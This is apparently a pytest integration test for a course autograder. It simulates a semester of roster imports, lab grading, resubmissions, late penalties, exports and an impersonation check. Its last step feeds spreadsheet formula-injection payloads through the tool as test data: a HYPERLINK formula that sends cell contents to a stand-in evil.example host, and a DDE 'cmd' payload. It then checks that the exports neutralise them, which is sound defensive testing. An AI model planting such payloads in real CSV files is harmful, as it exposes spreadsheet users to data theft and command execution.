"""Семестр преподавателя по README: список группы, две лабораторные, пересдачи, исправленный тест,
опоздание, упавший выпуск, выгрузка оценок, чужое имя с новым номером LMS и враждебные имена в CSV —
одна длинная история, шаг за шагом.

Слушатели: Анна (папка ``anna`` на JupyterHub и «Анна Смирнова» в Moodle), Борис (сдаёт поздно),
Вера (в списке группы, но ничего не сдаёт). Лабораторные: lab01 (папка) и lab02 (zip из Moodle).
"""

from __future__ import annotations

import csv
import json
import time
import zipfile
from pathlib import Path

import autograde_class as ac
import pytest
from grading import LIMITS, cli, read_csv, sandbox_problem

SANDBOX_PROBLEM = sandbox_problem()
pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(SANDBOX_PROBLEM is not None, reason=f"нет песочницы: {SANDBOX_PROBLEM}")]
LAB1, LAB2 = "lab01_mini_rag", "lab02_own_docs"
ROSTER = ("id,name,email,aliases\n"
          "anna,Анна Смирнова,anna@example.org,anna-hub\n"
          "boris,Борис Орлов,boris@example.org,\n"
          "vera,Вера Ким,vera@example.org,\n")


def answer(words: str) -> str:
    return (words + " ") * 16  # не меньше 40 слов: за наличие ответа — автоматический балл


def folder(root: Path, student: str, lab: ac.Lab, answers: dict) -> Path:
    target = root / student / lab.lab
    target.mkdir(parents=True, exist_ok=True)
    (target / f"{lab.lab}.ipynb").write_bytes(ac.dumps(lab.notebook(answers)))
    return root


def moodle(path: Path, works: dict[str, tuple[bytes, tuple]], lab: str) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for number, (name, (data, when)) in enumerate(works.items(), start=10):
            z.writestr(zipfile.ZipInfo(f"{name}_{number}_assignsubmission_file_/{lab}.ipynb", date_time=when), data)
    return path


def manual_grade(course: Path, student: str, grade_id: str, score: float, comment: str) -> None:
    """Как formgrader: балл и комментарий к письменному ответу прямо в базу оценок."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'autograde' / 'gradebook.db'}", "mini-rag-rukami") as gb:
        gb.find_grade(grade_id, LAB1, LAB1, student).manual_score = score
        gb.find_comment(grade_id, LAB1, LAB1, student).manual_comment = comment
        gb.db.commit()


def test_a_semester_with_two_labs_and_a_roster(tmp_path):
    course = ac.course_copy(tmp_path / "course")
    config = course / "nbgrader_config.py"
    config.write_text(config.read_text(encoding="utf-8") + (
        '\nc.Grading.due = {"lab02_own_docs": "2024-05-01 23:59:00+00:00"}\n'
        'c.Grading.late_penalty = "per_day"\nc.Grading.late_penalty_per_day = 0.1\n'), encoding="utf-8")
    lab1, lab2 = ac.Lab(lab=LAB1), ac.Lab(lab=LAB2)
    (tmp_path / "group.csv").write_text(ROSTER, encoding="utf-8")
    assert cli("roster", "import", tmp_path / "group.csv", "--course", course).returncode == 0

    # 1. lab01 с JupyterHub: папки по id хаба; Анна пишет ответ, Борис — нет
    hub = tmp_path / "hub1"
    folder(hub, "anna-hub", lab1, dict(lab1.solutions, why_cosine=answer("первая версия ответа")))
    folder(hub, "boris", lab1, {k: v for k, v in lab1.solutions.items() if k != "why_cosine"})
    result = cli("grade", LAB1, "--submissions", hub, "--course", course, *LIMITS)
    assert result.returncode == 0, result.stderr[-2000:]
    rows = read_csv(course / "autograde" / "grades" / f"{LAB1}.csv")
    assert set(rows) == {"Анна Смирнова", "Борис Орлов", "Вера Ким"}
    assert rows["Анна Смирнова"]["score"] == "33" and rows["Анна Смирнова"]["manual_pending"] == "3"
    assert rows["Вера Ким"]["status"] == "not_submitted"
    assert "Не сдали: Вера Ким" in result.stdout and "без несданных" in result.stdout

    # 2. преподаватель оценил письменный ответ Анны (как в formgrader)
    manual_grade(course, "anna", "why_cosine", 1, "мало про нормализацию")
    cli("grade", LAB1, "--course", course, *LIMITS)
    assert read_csv(course / "autograde" / "grades" / f"{LAB1}.csv")["Анна Смирнова"]["manual_pending"] == "0"
    page = course / "autograde" / "feedback" / "anna" / LAB1 / f"{LAB1}.html"  # отзыв перерисован с ручным баллом
    assert "проверено преподавателем" in page.read_text(encoding="utf-8")
    assert "мало про нормализацию" in page.read_text(encoding="utf-8")
    stamp = page.stat().st_mtime_ns
    cli("grade", LAB1, "--course", course, *LIMITS)
    assert page.stat().st_mtime_ns == stamp  # ручные баллы те же — отзыв не перерисовывается

    # 3. Анна пересдала с новым ответом: ручная проверка открыта заново, прежняя оценка не прилипла
    time.sleep(1.1)  # новая версия — новее по времени файла
    resubmit = tmp_path / "hub2"
    folder(resubmit, "anna-hub", lab1, dict(lab1.solutions, why_cosine=answer("вторая, исправленная версия")))
    result = cli("grade", LAB1, "--submissions", resubmit, "--course", course, *LIMITS)
    assert result.returncode == 0, result.stderr[-2000:]
    anna = read_csv(course / "autograde" / "grades" / f"{LAB1}.csv")["Анна Смирнова"]
    assert anna["manual_pending"] == "3"
    assert "why_cosine изменён после проверки (прежняя оценка: 1, комментарий «мало про нормализацию»)" in anna["message"]

    # 4. повторный запуск на первой (старой) выгрузке не откатывает Анну назад
    result = cli("grade", LAB1, "--submissions", hub, "--course", course, *LIMITS)
    anna = read_csv(course / "autograde" / "grades" / f"{LAB1}.csv")["Анна Смирнова"]
    assert "принята более новая" in anna["message"] and anna["manual_pending"] == "3"

    # 5. lab02 из Moodle: Анна вовремя, Борис на два с половиной дня позже срока
    full2 = ac.dumps(lab2.notebook())
    archive = moodle(tmp_path / "lab02.zip", {"Анна Смирнова": (full2, (2024, 4, 30, 10, 0, 0)),
                                              "Борис Орлов": (full2, (2024, 5, 4, 11, 0, 0))}, LAB2)
    result = cli("grade", LAB2, "--submissions", archive, "--course", course, *LIMITS)
    assert result.returncode == 0, result.stderr[-2000:]
    rows2 = read_csv(course / "autograde" / "grades" / f"{LAB2}.csv")
    full_score = float(rows2["Анна Смирнова"]["max_score"])
    assert float(rows2["Анна Смирнова"]["score"]) == full_score and rows2["Анна Смирнова"]["late"] == "0"
    assert float(rows2["Борис Орлов"]["late"]) > 48
    assert float(rows2["Борис Орлов"]["score"]) == pytest.approx(full_score * 0.7)  # 3 начатых дня × 10 %
    assert "Сдано после срока" in result.stdout
    page = (course / "autograde" / "feedback" / "boris" / LAB2 / f"{LAB2}.html").read_text(encoding="utf-8")
    assert "позже срока" in page

    # 6. исправлен тест в solutions/ и сделан выпуск: перепроверены все, без упрёка в правке тестов
    source = course / "solutions" / LAB1 / f"{LAB1}.ipynb"
    nb = json.loads(source.read_text(encoding="utf-8"))
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "cosine_visible")
    cell["source"] = "".join(cell["source"]).replace("Оберни результат в float(...).", "Оберни результат в float().")
    source.write_text(json.dumps(nb, ensure_ascii=False, indent=1), encoding="utf-8")
    assert cli("release", LAB1, "--course", course).returncode == 0
    result = cli("grade", LAB1, "--course", course, *LIMITS)
    assert result.returncode == 0, result.stderr[-2000:]
    assert "В этом запуске проверено: 2" in result.stdout  # Анна и Борис; Вера по-прежнему не сдала
    rows = read_csv(course / "autograde" / "grades" / f"{LAB1}.csv")
    assert not any("изменены ячейки с тестами" in row["message"] for row in rows.values())

    # 7. упавший выпуск не трогает выданную версию
    before = (course / "labs" / LAB1 / f"{LAB1}.ipynb").read_bytes()
    nb["cells"].insert(3, {"cell_type": "code", "execution_count": None, "id": "broken", "outputs": [],
                           "metadata": {"nbgrader": {"grade": False, "solution": True, "locked": False,
                                                     "grade_id": "broken", "schema_version": 3}},
                           "source": "### BEGIN SOLUTION\nx = 1\n"})  # нет END SOLUTION
    source.write_text(json.dumps(nb, ensure_ascii=False, indent=1), encoding="utf-8")
    result = cli("release", LAB1, "--course", course)
    assert result.returncode == 2 and "не тронута" in result.stderr
    assert (course / "labs" / LAB1 / f"{LAB1}.ipynb").read_bytes() == before

    # 8. выгрузка: строка на каждого из списка группы, колонка на лабораторную, флаги ручной проверки
    out = tmp_path / "grades.csv"
    result = cli("export", "--format", "wide", "--out", out, "--course", course)
    assert result.returncode == 0, result.stderr[-2000:]
    with open(out, newline="", encoding="utf-8") as f:
        table = {row["student_id"]: row for row in csv.DictReader(f)}
    assert set(table) == {"anna", "boris", "vera"}
    assert table["anna"][LAB1] == "33" and table["anna"][f"{LAB1}_pending"] == "1"
    assert float(table["boris"][LAB2]) == pytest.approx(full_score * 0.7)
    assert table["vera"][LAB1] == "" and table["vera"][LAB2] == ""
    assert not any(p.name == "grades.csv" for p in course.iterdir())  # ничего не легло в корень курса
    moodle_out = cli("export", "--format", "moodle", "--course", course)
    assert moodle_out.returncode == 0
    assert (course / "autograde" / "exports" / "grades-moodle.csv").read_text(encoding="utf-8").startswith(
        "Адрес электронной почты,ID,")

    # 9. захват личности: кто-то назвался в Moodle «Анна Смирнова» и сдал пустой lab02 под своим номером 555
    lab02_csv = course / "autograde" / "grades" / f"{LAB2}.csv"
    anna_before = read_csv(lab02_csv)["Анна Смирнова"]
    hijack = tmp_path / "hijack.zip"
    with zipfile.ZipFile(hijack, "w") as z:
        z.writestr(zipfile.ZipInfo(f"Анна Смирнова_555_assignsubmission_file_/{LAB2}.ipynb",
                                   date_time=(2024, 5, 1, 12, 0, 0)), ac.dumps(lab2.notebook({})))
    result = cli("grade", LAB2, "--submissions", hijack, "--course", course, *LIMITS)
    assert result.returncode == 0, result.stderr[-2000:]
    rows2 = read_csv(lab02_csv)
    assert rows2["Анна Смирнова"] == anna_before  # её работа и строка не тронуты
    newcomer = rows2["Анна Смирнова_555"]
    assert newcomer["score"] == "0" and "с номером участника LMS 555" in newcomer["message"]
    assert "roster merge 'Анна Смирнова_555' anna" in newcomer["message"]
    from autograde.course import safe_key

    page = course / "autograde" / "feedback" / safe_key("Анна Смирнова_555") / LAB2 / f"{LAB2}.html"
    text = page.read_text(encoding="utf-8")
    assert "номером участника" not in text and "roster merge" not in text  # замечание — только преподавателю
    # преподаватель выяснил, что это правда Анна (сменила устройство и сдала заново), и подтвердил
    merged = cli("roster", "merge", "Анна Смирнова_555", "anna", "--course", course)
    assert merged.returncode == 0, merged.stderr
    assert cli("grade", LAB2, "--course", course, *LIMITS).returncode == 0
    rows2 = read_csv(lab02_csv)
    assert "Анна Смирнова_555" not in rows2 and rows2["Анна Смирнова"]["score"] == "0"  # новее — пустая версия

    # 10. враждебные имена и письма: ни одна ячейка ни одного CSV не начинается с символа формулы
    hyperlink = '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example"&CHAR(47)&A1,"open")'
    calc = "=2+5+cmd|' /C calc'!A0"
    with open(tmp_path / "group2.csv", "w", newline="", encoding="utf-8") as f:
        f.write(ROSTER)
        csv.writer(f, lineterminator="\n").writerows([["mallory", "@Мэллори", calc, ""],
                                                      ["plus", "+Плюсов", "-minus@example.org", ""]])
    assert cli("roster", "import", tmp_path / "group2.csv", "--course", course).returncode == 0
    nb["cells"].pop(3)  # преподаватель убрал ячейку без END SOLUTION из шага 7
    source.write_text(json.dumps(nb, ensure_ascii=False, indent=1), encoding="utf-8")
    hub3 = tmp_path / "hub3"
    for name in (hyperlink, "-5", "\tтаб"):
        (hub3 / name).mkdir(parents=True)  # папка без работы: строка «не сдано», без проверки
    for args in (("--submissions", hub3), ()):
        result = cli("grade", LAB1 if args else LAB2, *args, "--course", course, *LIMITS)
        assert result.returncode == 0, result.stderr[-2000:]
    files = [course / "autograde" / "grades" / f"{LAB1}.csv", lab02_csv]
    for style in ("wide", "moodle", "canvas"):
        files.append(tmp_path / f"hostile-{style}.csv")
        assert cli("export", "--format", style, "--out", files[-1], "--course", course).returncode == 0
    cells = {}
    for path in files:
        with open(path, newline="", encoding="utf-8") as f:
            cells[path.name] = [cell for row in csv.reader(f) for cell in row]
    assert {name: [c for c in found if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
            for name, found in cells.items()} == {name: [] for name in cells}
    assert {"'" + hyperlink, "'-5", "'\tтаб", "'@Мэллори"} <= set(cells[f"{LAB1}.csv"])
    assert "'" + calc in cells["hostile-moodle.csv"] and "'" + calc in cells["hostile-wide.csv"]
    assert "'+Плюсов" in cells["hostile-canvas.csv"] and "'-minus@example.org" in cells["hostile-canvas.csv"]
    assert cells["hostile-wide.csv"][cells["hostile-wide.csv"].index("anna") + 3] == "33"  # баллы — числом
